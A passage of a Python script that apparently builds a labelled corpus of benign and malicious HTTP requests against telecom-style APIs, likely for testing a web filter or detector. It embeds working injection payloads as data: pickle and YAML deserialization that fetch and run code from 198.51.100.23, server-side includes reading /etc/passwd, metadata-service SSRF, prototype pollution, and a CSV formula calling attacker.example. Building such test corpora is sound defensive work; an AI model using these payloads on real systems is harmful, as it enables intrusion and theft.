    o.add("scanner-netsparker", "scanner", "GET", "/cnam?number=%2B15550100", [["Host", H_LOOKUP], ["User-Agent", "Mozilla/5.0 (compatible; Netsparker)"], ["Accept", "*/*"], ["X-Scanner", "Netsparker"]])
    o.add("scanner-burp-collab", "scanner", "GET", "/v2/PhoneNumbers/%2B15550100", [["Host", H_LOOKUP], ["User-Agent", UA_BROWSER[2]], ["Accept", "*/*"], ["X-Forwarded-Host", "x7k2q9.oastify.com"], ["Referer", "http://x7k2q9.burpcollaborator.net/ref"]])
    o.add("scanner-interactsh", "scanner", "POST", "/sms/inbound", [["Host", "app.example.com"], ["User-Agent", UA_TOOLS["nuclei"]], ["Accept", "*/*"], ["Content-Type", FORM]],
          urlencode([("From", "+15550100"), ("Body", "http://cn8q1abc2def3.oast.fun")]))


def attacks_generic(o):
    r = o.rng
    items = [
        ("generic-proto-pollution", "POST", "/api/sim/swap", H_CARE, JSONCT, '{"msisdn":"+447700900123","__proto__":{"isAdmin":true,"skipOtp":true}}'),
        ("generic-proto-pollution", "PATCH", "/api/lines/%2B447700900123/roaming", H_CARE, JSONCT, '{"roaming":true,"constructor":{"prototype":{"role":"admin"}}}'),
        ("generic-proto-pollution-qs", "GET", "/usage?__proto__[isAdmin]=true&month=2024-06", H_CARE, None, None),
        ("generic-node-deser", "POST", "/api/ussd/session", H_USSD, JSONCT, jdump({"msisdn": "+254712345678", "state": "_$$ND_FUNC$$_function(){require('child_process').exec('id', function(e,o){})}()"})),
        ("generic-ssi", "POST", "/support/contact", H_CARE, FORM, urlencode([("subject", "Billing"), ("message", "<!--#exec cmd=\"/bin/cat /etc/passwd\" -->")])),
        ("generic-ssi", "GET", "/inbox/search?q=" + quote("<!--#include virtual=\"/etc/asterisk/manager.conf\" -->", safe=""), "messages.example.com", None, None),
        ("generic-esi", "POST", "/sms/inbound", "app.example.com", FORM, urlencode([("From", "+15550100"), ("Body", "<esi:include src=\"http://169.254.169.254/latest/meta-data/\"/>")])),
        ("generic-xpath", "GET", "/xmldirectory?" + qs([("name", "' or '1'='1' or ''='"), ("start", "1")]), H_DIR, None, None),
        ("generic-xpath", "POST", "/parlayx/lookup", H_LOOKUP, "text/xml", "<lookup><number>' or count(//user[position()=1]/password)=1 or 'a'='b</number></lookup>"),
        ("generic-python-pickle", "POST", "/api/cdr/jobs/resume", H_BILL, "application/octet-stream", "cposix\nsystem\np0\n(S'curl http://198.51.100.23/p|sh'\np1\ntp2\nRp3\n."),
        ("generic-yaml-deser", "POST", "/api/noc/import", H_NOC, "application/x-yaml", "alarms: !!python/object/apply:os.system [\"id > /tmp/pwn\"]\n"),
        ("generic-yaml-deser", "POST", "/api/pollers/import", H_NOC, "application/x-yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://198.51.100.23/y.jar\"]]]]"),
        ("generic-el-injection", "GET", "/selfcare/faces/home.xhtml?" + qs([("msisdn", "#{facesContext.externalContext.request.getSession().invalidate()}${''.getClass().forName('java.lang.Runtime')}")]), H_CARE, None, None),
        ("generic-csv-formula", "POST", "/api/cdr/batch?format=psv", H_BILL, "text/csv", "start_time|calling|called|duration\n2024-06-11 10:00:00|=cmd|' /C calc'!A0|+15550142|60\n2024-06-11 10:01:00|+15550100|=HYPERLINK(\"http://attacker.example/?\"&A1,\"x\")|30\n"),
    ]
    for slug, m, path, host, ct, body in items:
        o.add(slug, "generic", m, path, o.api(host, ctype=ct) if ct != FORM else o.browser(host, ctype=ct, cookie=o.session()), body)


# ================================================================ main

def build(kind):
    o = Out(kind, random.Random("%s-%s" % (SEED, kind)))
    if kind == "benign":
        for f in (benign_sms, benign_voice, benign_sip, benign_ussd, benign_lookup, benign_billing, benign_care,
                  benign_webrtc, benign_rcs, benign_noc, benign_directory, benign_templates, benign_dev):
            f(o)
    elif kind == "attacks":
        for f in (attacks_sqli, attacks_xss, attacks_xxe, attacks_ssrf, attacks_rce, attacks_lfi, attacks_rfi, attacks_php,
                  attacks_java, attacks_ssti, attacks_nosqli, attacks_ldapi, attacks_crlf, attacks_protocol, attacks_scanner, attacks_generic):
            f(o)
    else:
        raise SystemExit("usage: corpus-telecom.py attacks|benign")
    return o.rows


def main(argv):
    if len(argv) != 2:
        raise SystemExit("usage: corpus-telecom.py attacks|benign")
    out = sys.stdout
    for row in build(argv[1]):
        out.write(json.dumps(row, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main(sys.argv)
